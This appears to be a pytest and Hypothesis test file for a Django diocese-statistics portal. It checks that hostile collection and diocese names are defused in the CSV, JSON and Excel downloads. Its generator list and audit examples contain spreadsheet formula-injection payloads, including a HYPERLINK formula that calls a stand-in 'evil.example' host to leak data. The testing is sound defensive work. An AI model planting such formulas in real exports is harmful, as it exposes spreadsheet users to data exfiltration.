"""Hostile names in every download: a collection's name (as typed) and dioceses' names (from
upstream) with commas, quotes, line breaks, leading = + - @, tabs, unicode, at full length.

Each file is fetched through the Django test client (the research downloads in every format,
the trends CSV and JSON of the same dioceses read from the warehouse) and read back as a
researcher's tools read it (the csv module, openpyxl, json): as many rows as were written, no
cell a spreadsheet would run, and every name back as it was, minus the defusing apostrophe.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from contextlib import contextmanager
from datetime import UTC, datetime

import pytest
from django.db import transaction
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from devtools.warehouse_data import collection_named, hand_made
from portal import magisterium
from portal.research import downloads
from tests.examples import examples

pytestmark = pytest.mark.django_db

# Written out here rather than imported: this file pins the rule, the code follows it.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
FIGURES = {  # two years each; None is a gap, 0 a real zero
    1990: {"catholics": 1000, "baptisms": 0, "parishes": None},
    1991: {"catholics": 1010, "percent_catholic": 12.5},
}
FIGURE_COUNT = sum(value is not None for year in FIGURES.values() for value in year.values())
CODES = ("dhosa", "dhosb")
DISPOSITION = re.compile(
    r'attachment; filename="research-[a-z0-9_-]+-\d+-(wide|long|all)\.(csv|json|xlsx)"'
)


# --- Reading a file back, as a researcher's tools would ------------------------------------


def body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def restore(cell: str) -> str:
    """Undo the apostrophe: one off a cell whose leading apostrophes precede a formula start."""
    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(TRIGGERS) else cell


def one_line(text: str) -> str:
    return " ".join(text.split())  # the citation names the collection on one line


def in_xlsx(text: str) -> str:
    """What a workbook holds of `text`: line breaks as "\\n", no character XML cannot hold."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "", text)


def assert_nothing_runs(rows: list[list[str]]) -> None:
    """No cell starts a formula: text that would is behind an apostrophe; a number is a number."""
    live = [cell for row in rows for cell in row
            if cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)]  # fmt: skip
    assert live == []
    for row in rows:
        for cell in row:
            if cell.startswith("'") and cell.lstrip("'").startswith(TRIGGERS):
                assert restore(cell) != cell  # the apostrophe is there, and only one is taken


def assert_citation_row(text: str, rows: list[list[str]], collection_name: str) -> None:
    """The first row is the comment row, "#" and the citation, on the file's first line."""
    assert text.startswith("#,")  # pandas' read_csv(comment="#") skips the line
    assert csv_rows(text.split("\r\n", 1)[0]) == [rows[0]]  # one physical line, one row
    mark, citation = rows[0]
    assert mark == "#" and citation.startswith("Source: Magisterium AI")
    assert f"collection “{one_line(collection_name)}”" in citation


def assert_no_formula_in_workbook(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name


# --- The check of every format, for one collection ----------------------------------------


@contextmanager
def rolled_back():
    """A Hypothesis example's rows, gone before the next example (one test, many examples)."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def make_collection(owner, name: str, dioceses: dict[str, dict]) -> object:
    collection = collection_named(name, owner=owner)
    for code, directory in dioceses.items():
        hand_made(collection, code, FIGURES, **directory)
    return collection


def check_research_downloads(client, collection, name: str, dioceses: dict[str, dict]) -> None:
    url = f"/research/{collection.pk}/download"
    wide_rows = len(dioceses) * len(FIGURES)

    # CSV, one row a year.
    response = client.get(f"{url}/csv/")
    assert response.status_code == 200 and DISPOSITION.fullmatch(response["Content-Disposition"])
    text = body(response).decode("utf-8")
    rows = csv_rows(text)
    assert len(rows) == 1 + 1 + wide_rows  # citation, header, the rows written
    assert_citation_row(text, rows, name)
    assert rows[1] == list(downloads.WIDE_COLUMNS)
    assert_nothing_runs(rows)
    header = rows[1]
    by_code: dict[str, list[dict]] = {}
    for row in rows[2:]:
        assert len(row) == len(header)
        record = dict(zip(header, row, strict=True))
        by_code.setdefault(record["source_code"], []).append(record)
    assert set(by_code) == set(dioceses)
    for code, directory in dioceses.items():
        for record in by_code[code]:
            for field, value in directory.items():
                assert restore(record[field]) == value, field
        assert [r["catholics"] for r in by_code[code]] == ["1000", "1010"]
        assert [r["parishes"] for r in by_code[code]] == ["", ""]  # a gap stays empty

    # CSV, one row a figure.
    text = body(client.get(f"{url}/csv-long/")).decode("utf-8")
    rows = csv_rows(text)
    assert len(rows) == 1 + 1 + len(dioceses) * FIGURE_COUNT
    assert_citation_row(text, rows, name)
    assert rows[1] == list(downloads.LONG_COLUMNS)
    assert_nothing_runs(rows)
    for code, row_name, _year, _metric, _value in rows[2:]:
        assert restore(row_name) == dioceses[code]["name"]

    # JSON runs nothing: every name exactly as it was.
    data = json.loads(body(client.get(f"{url}/json/")))
    assert data["collection"] == name
    assert data["citation"]["collection"] == one_line(name)
    assert len(data["dioceses"]) == len(dioceses)
    for entry in data["dioceses"]:
        directory = dioceses[entry["source_code"]]
        assert {field: entry[field] for field in directory} == directory
        assert len(entry["years"]) == len(FIGURES)

    # Excel: text cells only, never a formula, every name as it was (what XML can hold).
    from openpyxl import load_workbook

    response = client.get(f"{url}/xlsx/")
    assert response.status_code == 200 and DISPOSITION.fullmatch(response["Content-Disposition"])
    content = body(response)
    assert_no_formula_in_workbook(content)
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Figures", "About"]
    sheet = workbook["Figures"]
    assert sheet.max_row == 1 + wide_rows
    header = [cell.value for cell in sheet[1]]
    assert header == list(downloads.WIDE_COLUMNS)
    for row in sheet.iter_rows(min_row=2):
        cells = dict(zip(header, row, strict=True))
        directory = dioceses[cells["source_code"].value]
        for field, value in directory.items():
            assert_text_cell(cells[field], value)
    about = {row[0].value: row[1] for row in workbook["About"].iter_rows()}
    assert len(about) == 9
    assert_text_cell(about["Collection"], one_line(name))
    assert in_xlsx(one_line(name)) in about["Citation"].value
    for worksheet in workbook.worksheets:
        assert all(cell.data_type != "f" for row in worksheet.iter_rows() for cell in row)


def assert_text_cell(cell, value: str) -> None:
    """`value` in a workbook: text (what XML holds of it), marked if it looks like a formula."""
    held = in_xlsx(value)
    assert (cell.value or "") == held
    if held:  # an empty cell has no type
        assert cell.data_type == "s"
        looks_like = any(text.lstrip("'").startswith(TRIGGERS) for text in (value, held))
        assert cell.quotePrefix == looks_like


def check_trends_downloads(client, dioceses: dict[str, dict]) -> None:
    """The trends CSV of these dioceses (read from the warehouse), checked against its JSON."""
    codes = list(dioceses)
    query = {"d": codes, "metric": ["catholics", "baptisms"], "start": 1985, "end": 1995}
    response = client.get("/trends/compare/", {**query, "format": "csv"})
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response.content.decode("utf-8"))
    data = json.loads(client.get("/trends/compare/", {**query, "format": "json"}).content)
    assert len(rows) == 1 + len(data["years"])  # header, one row a year
    assert_nothing_runs(rows)
    header = rows[0]
    assert header[0] == "year" and len(header) == 1 + len(codes) * 2
    assert [restore(cell) for cell in header[1:]] == [s["heading"] for s in data["series"]]
    for heading, series in zip(header[1:], data["series"], strict=True):
        name = dioceses[series["source_code"]]["name"]
        assert series["diocese_name"] == name
        assert restore(heading).startswith(f"{name} — ")
    assert rows[1 + data["years"].index(1990)][1] == "1000"


# --- Hostile names ---------------------------------------------------------------------------

# Characters that break hand-written CSV or start formulas, mixed with any text (no NUL, which
# no database column holds; no lone surrogate, which no UTF-8 file holds).
PIECES = ["=", "+", "-", "@", "\t", "\r", "\n", "\r\n", ",", '"', "'", ";", "#", " ", "—",
          "=HYPERLINK(\"https://evil.example/?leak\")", "\u2028", "\x85", "\x0b", "\x1f",
          "\ufffe", "é", "😀", "مطران"]  # fmt: skip
ANY_CHARACTER = st.characters(exclude_categories=("Cs",), exclude_characters="\x00")


def hostile(max_size: int) -> st.SearchStrategy[str]:
    short = st.lists(st.one_of(st.sampled_from(PIECES), st.text(ANY_CHARACTER, max_size=4)),
                     min_size=1, max_size=8).map("".join)  # fmt: skip
    one_char = [piece for piece in PIECES if len(piece) == 1]
    long = st.text(st.one_of(st.sampled_from(one_char), ANY_CHARACTER), min_size=max_size)
    return st.one_of(short, long).map(lambda text: text[:max_size]).filter(bool)


@settings(
    max_examples=examples(100),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    name=hostile(120),  # Collection.name's length
    first=hostile(300),  # Diocese.name's length
    second=hostile(300),
    country=hostile(200),
)
@example(name='Study,"2026 part', first='=HYPERLINK("x")', second="'=1+1", country="-2+3")
@example(name='=1+1\r\n,"', first="\t@SUM(A1)", second="'s-Hertogenbosch", country="+\r")
def test_hostile_names_survive_every_download_format(
    signed_in_client, sandbox, name, first, second, country
):
    with rolled_back():
        dioceses = {
            CODES[0]: {"name": first, "country": country, "province": second},
            # Cut to the column's length: PostgreSQL refuses longer (SQLite would not).
            CODES[1]: {"name": second, "country": first[:200], "metropolitan_name": name},
        }
        collection = make_collection(signed_in_client.user, name, dioceses)
        check_research_downloads(signed_in_client, collection, name, dioceses)
        check_trends_downloads(signed_in_client, dioceses)


# --- The audit's two examples, literally --------------------------------------------------

FORMULA_NAME = 'Parish,=HYPERLINK("https://evil.example/?leak"),end'
QUOTE_NAME = 'Study,"2026 part'


def _long_collection(owner, name: str):
    """74 years of one diocese: a wide CSV of 76 rows (citation, header, 74 years)."""
    collection = collection_named(name, owner=owner)
    years = {year: {"catholics": 1000 + year} for year in range(1950, 2024)}
    moment = datetime(2025, 1, 2, 10, 0, tzinfo=UTC)
    hand_made(collection, "dlong", years, name="Long", fetched_at=moment)
    return collection


@pytest.mark.parametrize("name", [FORMULA_NAME, QUOTE_NAME], ids=["formula", "quote"])
def test_the_audit_names_are_one_defused_cell_of_the_citation_row(signed_in_client, name):
    collection = _long_collection(signed_in_client.user, name)
    for fmt in ("csv", "csv-long"):
        response = signed_in_client.get(f"/research/{collection.pk}/download/{fmt}/")
        text = body(response).decode("utf-8")
        rows = csv_rows(text)
        assert len(rows) == 76  # 74 years (one figure each), the header, the citation
        assert len(rows[0]) == 2 and rows[0][0] == "#"
        assert f"collection “{name}”" in rows[0][1]
        assert all(not cell.startswith("=") for row in rows for cell in row)
        assert len(rows[1]) == len(rows[2]) and len({len(row) for row in rows[1:]}) == 1
    first_line = text.split("\r\n", 1)[0]
    quoted = name.replace('"', '""')
    assert first_line == (
        f'#,"Source: Magisterium AI (diocese statistics); collection “{quoted}”; '
        f"figures fetched 2025-01-02 to 2025-01-02; last checked 2025-01-02; "
        f"downloaded {datetime.now(UTC).date().isoformat()} "
        f'from http://testserver/research/{collection.pk}/"'
    )


def test_the_audit_formula_is_text_in_the_workbook(signed_in_client):
    from openpyxl import load_workbook

    collection = _long_collection(signed_in_client.user, FORMULA_NAME)
    content = body(signed_in_client.get(f"/research/{collection.pk}/download/xlsx/"))
    assert_no_formula_in_workbook(content)
    about = {row[0].value: row[1] for row in load_workbook(io.BytesIO(content))["About"].rows}
    assert about["Collection"].value == FORMULA_NAME and about["Collection"].data_type == "s"
    assert FORMULA_NAME in about["Citation"].value


def test_a_diocese_named_like_a_formula_is_text_in_the_trends_csv(signed_in_client, sandbox):
    collection = collection_named("Trends", owner=signed_in_client.user)
    hand_made(collection, "dform", FIGURES, name=FORMULA_NAME)
    response = signed_in_client.get("/trends/dform/", {"metric": "catholics", "format": "csv"})
    header, *years = csv_rows(response.content.decode("utf-8"))
    assert header == ["year", f"{FORMULA_NAME} — Catholics (persons)"]  # a comma is quoted
    assert ["1990", "1000"] in years


def test_a_negative_figure_is_a_number_not_defused_text(signed_in_client):
    # Defusing is for text: a figure, negative or not, is written as the number it is.
    collection = collection_named("Numbers", owner=signed_in_client.user)
    hand_made(collection, "dnumb", {2000: dict.fromkeys(magisterium.METRICS, -7)}, name="-N")
    text = body(signed_in_client.get(f"/research/{collection.pk}/download/csv/")).decode()
    header, row = csv_rows(text)[1:]
    record = dict(zip(header, row, strict=True))
    assert record["name"] == "'-N"
    assert {record[metric] for metric in magisterium.METRICS} <= {"-7", "-7.0"}
